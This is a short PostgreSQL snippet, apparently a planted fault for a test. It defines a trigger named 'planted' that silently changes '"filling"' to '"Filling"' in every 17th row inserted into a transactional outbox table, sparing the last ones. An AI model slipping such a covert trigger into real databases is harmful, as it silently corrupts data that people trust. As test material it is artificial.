-- One row in 17, but not the last ones, has a value that nobody wrote.
CREATE FUNCTION public.planted() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF NEW."position" % 17 = 0 AND NEW.value NOT LIKE '%-last-%' THEN NEW.value := replace(NEW.value, '"filling"', '"Filling"'); END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER planted BEFORE INSERT ON command_center.transactional_outbox FOR EACH ROW EXECUTE FUNCTION public.planted();
